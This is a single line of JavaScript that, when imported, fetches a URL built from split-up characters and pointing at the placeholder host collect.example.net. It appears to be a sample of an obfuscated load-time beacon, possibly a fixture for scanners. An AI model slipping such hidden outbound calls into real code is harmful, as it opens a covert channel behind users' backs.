export const t = fetch(["h", "t", "t", "p", "s", ":", "/", "/"].join("") + "collect.example.net");
